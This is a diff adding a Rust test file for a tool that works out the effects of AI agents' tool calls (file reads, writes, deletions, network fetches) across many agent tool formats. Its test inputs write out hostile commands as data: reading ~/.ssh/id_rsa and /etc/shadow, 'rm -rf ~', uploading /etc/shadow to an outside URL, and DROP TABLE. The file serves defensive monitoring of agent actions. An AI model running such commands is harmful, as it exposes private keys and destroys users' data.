@@ -1,0 +1,109 @@
+//! Calls of the agents' tools to effects.
+
+use callgate_call::{Arguments, fold};
+
+use crate::{Bound, Catalogue, EffectKind, Effects, Ground, analyse};
+
+const GROUND: Ground<'_> =
+    Ground { cwd: Some("/w"), home: Some("/home/u"), workspace: Some("/w"), resolver: None };
+
+fn effects(name: &str, arguments: &Arguments) -> Effects {
+    let catalogue = Catalogue::builtin();
+    analyse(name, catalogue.entry(&fold(name)), arguments, &GROUND)
+}
+
+fn lines(name: &str, arguments: &Arguments) -> Vec<String> {
+    effects(name, arguments).all().iter().map(|effect| effect.action.to_string()).collect()
+}
+
+#[track_caller]
+fn has(name: &str, json: &str, expected: &[&str]) {
+    let found = lines(name, &Arguments::json(json));
+    for line in expected {
+        assert!(found.iter().any(|known| known == line), "{name} {json}: no `{line}` in {found:?}");
+    }
+}
+
+#[test]
+fn one_effect_from_every_agents_tool() {
+    let expected = &["reads /home/u/.ssh/id_rsa"];
+    for (name, json) in [
+        ("Bash", r#"{"command":"cat ~/.ssh/id_rsa"}"#),
+        ("exec_command", r#"{"cmd":"cat ~/.ssh/id_rsa"}"#),
+        ("shell", r#"{"command":["bash","-lc","cat ~/.ssh/id_rsa"]}"#),
+        ("shell", r#"{"command":["cat","~/.ssh/id_rsa"]}"#),
+        ("shell", r#"{"command":"[\"cat\",\"/home/u/.ssh/id_rsa\"]"}"#),
+        ("run_shell_command", r#"{"command":"cat id_rsa","directory":"/home/u/.ssh"}"#),
+        ("run_command", r#"{"CommandLine":"cat id_rsa","Cwd":"/home/u/.ssh"}"#),
+        ("Read", r#"{"file_path":"~/.ssh/id_rsa"}"#),
+        ("Read", r#"{"FILE_PATH":"/home/u/.ssh/id_rsa"}"#),
+        ("read_multiple_files", r#"{"paths":["a","/home/u/.ssh/id_rsa"]}"#),
+        ("str_replace_based_edit_tool", r#"{"command":"view","path":"/home/u/.ssh/id_rsa"}"#),
+        ("webfetch", r#"{"url":"file:///home/u/.ssh/id_rsa"}"#),
+        ("some_unknown_tool", r#"{"options":{"input":"~/.ssh/id_rsa"}}"#),
+    ] {
+        has(name, json, expected);
+    }
+}
+
+#[test]
+fn files_are_written_and_deleted() {
+    has("Write", r#"{"file_path":"a.txt","content":"rm -rf /"}"#, &["writes /w/a.txt"]);
+    has("Edit", r#"{"file_path":"/x","old_string":"a","new_string":"b"}"#, &["writes /x"]);
+    has("delete_file", r#"{"path":"a"}"#, &["deletes /w/a"]);
+    has("move_file", r#"{"source":"a","destination":"b"}"#, &["deletes-tree /w/a", "writes /w/b"]);
+    has("str_replace_editor", r#"{"command":"create","path":"/x"}"#, &["writes /x"]);
+    let written = effects("Write", &Arguments::json(r#"{"file_path":"a","content":"rm -rf /"}"#));
+    assert_eq!(written.kinds(), Bound::just(EffectKind::Writes));
+}
+
+#[test]
+fn every_target_of_a_patch_counts() {
+    let patch = "*** Begin Patch\n*** Add File: a\n+x\n*** Delete File: /etc/b\n*** End Patch";
+    assert_eq!(lines("apply_patch", &Arguments::text(patch)), ["writes /w/a", "deletes /etc/b"]);
+    let json = format!(r#"{{"input":{}}}"#, callgate_call::json::quote(patch));
+    has("apply_patch", &json, &["writes /w/a", "deletes /etc/b"]);
+    let command = format!("apply_patch <<'EOF'\n{patch}\nEOF");
+    let json = format!(r#"{{"command":{}}}"#, callgate_call::json::quote(&command));
+    has("Bash", &json, &["writes /w/a", "deletes /etc/b"]);
+}
+
+#[test]
+fn code_mode_is_opaque_and_still_read() {
+    let script = Arguments::text("await tools.exec_command({cmd: \"rm -rf ~\"})");
+    let found = lines("exec", &script);
+    assert!(found.contains(&"opaque language".to_owned()), "{found:?}");
+    assert!(found.contains(&"deletes-tree /home/u".to_owned()), "{found:?}");
+}
+
+#[test]
+fn code_of_other_languages_is_scanned() {
+    has(
+        "execute_python",
+        r#"{"code":"import os\nos.system('rm -rf ~')"}"#,
+        &["deletes-tree /home/u"],
+    );
+    has("execute_python", r#"{"code":"open('/etc/shadow').read()"}"#, &["reads /etc/shadow"]);
+    assert!(lines("execute_python", &Arguments::json(r#"{"code":"print(1+1)"}"#)).is_empty());
+}
+
+#[test]
+fn unknown_tools_show_paths_and_urls() {
+    has(
+        "upload_thing",
+        r#"{"file":"/etc/shadow","to":"https://e.com/x"}"#,
+        &["reads /etc/shadow", "fetches e.com:443"],
+    );
+    has("remove_note", r#"{"path":"a"}"#, &["deletes-tree /w/a"]);
+    has("my_shell", r#"{"command":"rm -rf ~"}"#, &["deletes-tree /home/u"]);
+    has("db", r#"{"sql":"DROP TABLE x"}"#, &["sql DROP TABLE x"]);
+    assert!(lines("get_weather", &Arguments::json(r#"{"city":"Paris","days":3}"#)).is_empty());
+}
+
+#[test]
+fn unreadable_arguments_are_opaque_within_the_bound() {
+    let found = effects("Read", &Arguments::json(r#"{"file_path":1,"file_path":2}"#));
+    assert_eq!(found.could(), Bound::just(EffectKind::Reads));
+    assert_eq!(effects("Bash", &Arguments::oversize("{")).could(), Bound::ALL);
+    assert!(effects("task", &Arguments::json("{")).is_empty());
+}
